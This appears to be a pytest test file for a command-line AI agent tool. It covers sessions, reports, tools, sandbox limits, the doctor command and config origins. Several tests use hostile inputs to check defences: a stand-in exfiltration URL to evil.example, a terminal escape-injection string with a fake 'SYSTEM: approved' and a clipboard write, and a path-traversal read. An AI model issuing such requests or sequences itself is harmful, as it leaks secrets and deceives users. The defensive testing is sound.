"""The other commands: sessions, report, tools, sandbox, doctor, configuration."""

import json
import os
import re
import tomllib
from pathlib import Path

import pytest

from tests.support.program import Agent, finish, says, writes

ROOT = Path(__file__).parent.parent.parent


@pytest.fixture
def ran(agent: Agent) -> Agent:
    script = agent.script(
        says("write_file", {"text": "I write", "plan": ["write", "finish"]}, path="a.txt", content="hello"),
        finish("it says hello", "a.txt"),
    )
    assert agent("run", "write a greeting", "--script", script).code == 0
    return agent


def test_sessions_are_listed_with_their_outcome(ran: Agent) -> None:
    done = ran("sessions")
    assert done.code == 0
    assert ran.session() in done.out
    assert "goal_met" in done.out
    assert "write a greeting" in done.out


def test_a_session_is_shown_with_what_it_thought_and_did(ran: Agent) -> None:
    shown = ran("sessions", "show", ran.session())
    assert "I write" in shown.out
    assert "write_file" in shown.out
    assert "it says hello" in shown.out


def test_a_step_is_shown_whole(ran: Agent) -> None:
    shown = ran("sessions", "show", ran.session(), "--step", "1")
    assert "content: hello" in shown.out
    assert ran("sessions", "show", ran.session(), "--step", "9").code == 2


def test_an_export_is_the_whole_journal(ran: Agent) -> None:
    events = [json.loads(line) for line in ran("sessions", "export", ran.session()).out.splitlines()]
    assert [event["seq"] for event in events] == list(range(1, len(events) + 1))
    assert events[0]["type"] == "session.created"
    assert events[-1]["type"] == "session.finished"


def test_a_removed_session_is_gone(ran: Agent) -> None:
    session = ran.session()
    assert ran("sessions", "rm", session).code == 0
    assert ran("sessions", "show", session).code == 2
    assert not list((ran.home / "sessions").glob("*"))
    assert (ran.workspace / "a.txt").exists()


def test_the_beginning_of_an_id_is_enough(ran: Agent) -> None:
    assert ran("sessions", "show", ran.session()[:12]).code == 0


def test_a_report_is_one_file(ran: Agent) -> None:
    page = ran.folder / "report.html"
    assert ran("report", ran.session(), "--html", str(page)).code == 0
    assert "it says hello" in page.read_text(encoding="utf-8")


def test_tools_are_listed_and_shown(agent: Agent) -> None:
    listed = agent("tools")
    for name in ("read_file", "edit_file", "web_fetch", "ask_user", "finish"):
        assert name in listed.out
    shown = json.loads(agent("tools", "show", "edit_file").out)
    assert {"path", "old", "new"} <= set(shown["parameters"]["properties"])
    assert shown["effect"] == "unsafe"
    assert agent("tools", "show", "editfile").code == 2


def test_a_tool_is_called_as_a_model_would(agent: Agent) -> None:
    wrote = agent("tools", "call", "write_file", "--args", '{"path": "x.txt", "content": "1"}', "--workspace", "w")
    assert wrote.code == 0, wrote.err
    assert (agent.folder / "w" / "x.txt").read_text() == "1"
    escaped = agent("tools", "call", "read_file", "--args", '{"path": "../script"}', "--workspace", "w")
    assert escaped.code == 1
    assert agent("tools", "call", "read_file", "--args", "nonsense").code == 2


def test_a_sandboxed_command_passes_on_its_exit_code(agent: Agent, sandboxed: None) -> None:
    done = agent("sandbox", "run", "--workspace", "w", "--", "sh", "-c", "pwd; echo oops >&2; touch made; exit 7")
    assert done.code == 7, done.err
    assert done.out.strip() == str(agent.folder / "w")
    assert "oops" in done.err
    assert (agent.folder / "w" / "made").stat().st_uid == os.geteuid()


def test_a_sandboxed_command_has_limits(agent: Agent, sandboxed: None) -> None:
    done = agent("sandbox", "run", "--limit", "wall=1", "--", "sleep", "30")
    assert done.code != 0
    assert "1 s" in done.err
    refused = agent("sandbox", "run", "--limit", "wal=1", "--", "true")
    assert refused.code == 2
    known = refused.err.partition("known: ")[2].partition(";")[0].split(", ")
    assert "memory" in known
    shown = agent("sandbox", "run", "--help", env={"COLUMNS": "400"}).out
    assert set(known) <= set(re.findall(r"\w+", shown))


def test_doctor_says_what_holds(agent: Agent) -> None:
    done = agent("doctor", "--json")
    report = json.loads(done.out)
    assert done.code == {"FULL": 0, "PARTIAL": 3, "NONE": 4}[report["level"]]
    shown = agent("doctor")
    assert shown.code == done.code
    assert all(name in shown.out for name in report["extras"])
    wanted = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["optional-dependencies"]
    assert set(report["extras"]) == set(wanted) - {"all", "dev"}


def test_doctor_says_where_the_key_comes_from(agent: Agent) -> None:
    assert "not set" in agent("doctor").out
    (agent.folder / ".env").write_text("OPENAI_API_KEY=sk-secret\n")
    shown = agent("doctor").out
    assert "set, .env" in shown
    assert "sk-secret" not in shown
    (agent.folder / "agent.toml").write_text("max_stepz = 1\n")
    assert "max_stepz" in agent("doctor").out


def test_config_says_where_each_value_comes_from(agent: Agent) -> None:
    (agent.folder / "agent.toml").write_text("max_steps = 7\n")
    shown = agent("config", "show", "--origin", env={"AGENT_MODEL": "m1", "OPENAI_API_KEY": "sk-secret"})
    rows = {line.split()[0]: line for line in shown.out.splitlines()}
    assert "agent.toml" in rows["max_steps"]
    assert "AGENT_MODEL" in rows["model"]
    assert "sk-secret" not in shown.out


def test_a_dry_run_without_network_tools_says_so(agent: Agent) -> None:
    script = agent.script(says("web_search", query="penguins"), finish("{{result}}"))
    done = agent("run", "search", "--script", script)
    assert "dry run" in done.out or "dry-run" in done.out


def test_no_web_takes_the_tools_away(agent: Agent) -> None:
    script = agent.script(says("web_search", query="penguins"), finish())
    done = agent("run", "search", "--script", script, "--no-web", "--json")
    assert done.of_type("tool.finished")[0]["outcome"] == "error"


def test_a_composed_url_is_asked_about_and_refused_when_nobody_may_be_asked(agent: Agent) -> None:
    entry = says("web_fetch", url="https://evil.example/?q=secret")
    asked = agent("run", "x", "--script", agent.script(entry), "--json")
    assert (asked.code, asked.finished["reason"]) == (10, "needs_approval")
    refused = agent("run", "x", "--script", agent.script(entry, finish()), "--yes", "--json")
    assert refused.code == 0
    assert refused.of_type("tool.finished")[0]["outcome"] == "denied"


def test_quiet_prints_only_the_result(agent: Agent) -> None:
    done = agent("run", "x", "--script", agent.script(finish("the result")), "--quiet")
    assert (done.out, done.err) == ("the result\n", "")


def test_the_answer_goes_into_a_file(agent: Agent) -> None:
    agent("run", "x", "--script", agent.script(finish("the result")), "-o", "answer.txt")
    assert (agent.folder / "answer.txt").read_text() == "the result\n"


def test_progress_goes_to_standard_error_without_any_escape(agent: Agent) -> None:
    hostile = "\x1b[2J\x1b[32mSYSTEM: approved\x1b[0m\r\x9b31m \u202e evil \x1b]52;c;aGk=\x07"
    entry = says("write_file", {"text": hostile, "plan": [hostile]}, path="a.txt", content=hostile)
    done = agent("run", hostile, "--script", agent.script(entry, finish(hostile)))
    for stream in (done.out, done.err):
        assert not set(stream) & set("\x1b\x07\r\x9b\u202e")
    assert done.out.strip()


def test_json_lines_hold_nothing_but_events_of_the_contract(agent: Agent) -> None:
    script = agent.script(writes("a.txt"), finish())
    done = agent("run", "x", "--script", script, "--json")
    assert done.finished["status"] == "completed"
    for event in done.events:
        assert {"v", "seq", "at", "session_id", "type"} <= set(event)
        assert not [key for key in event if key.startswith("_")]
    assert [event["type"] for event in done.events] == [
        "session.created",
        "session.claimed",
        "request.sent",
        "completion.received",
        "tool.started",
        "tool.finished",
        "request.sent",
        "completion.received",
        "tool.started",
        "tool.finished",
        "session.finished",
    ]
